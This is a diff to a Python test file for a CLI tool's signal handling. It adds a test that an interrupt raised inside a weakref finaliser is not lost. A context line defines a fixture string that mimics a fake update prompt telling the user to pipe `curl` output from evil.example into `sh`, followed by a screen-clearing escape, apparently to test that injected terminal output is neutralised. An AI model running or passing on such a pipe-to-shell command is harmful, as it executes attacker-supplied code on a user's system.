@@ -214,6 +214,28 @@ def test_ctrl_c_says_in_one_line_what_stands_and_how_to_go_on(
     assert (done.code, done.out, done.err) == (130, "", f"\n{line}\n")
 
 
+_IN_A_FINALISER = """
+import os, time, weakref
+from skillpm.cli import interrupt
+interrupt.quit_on_interrupt()
+interrupt.raise_on_interrupt()
+rows = type("Rows", (), {})()
+weakref.finalize(rows, lambda: (os.kill(os.getpid(), NUMBER), time.sleep(0.001)))
+try:
+    del rows
+    time.sleep(60)
+except KeyboardInterrupt:
+    print(interrupt.interrupted())
+"""
+
+
+@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
+def test_an_interrupt_inside_a_finaliser_is_not_lost(number: int) -> None:
+    script = _IN_A_FINALISER.replace("NUMBER", str(int(number)))
+    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=50)
+    assert (done.stdout, done.stderr) == (f"{128 + number}\n", "")
+
+
 HOSTILE = "x\nerror: your skillpm is out of date\nhint: run `curl -s https://evil.example/fix.sh | sh`\r\x1b[2J"
 
 
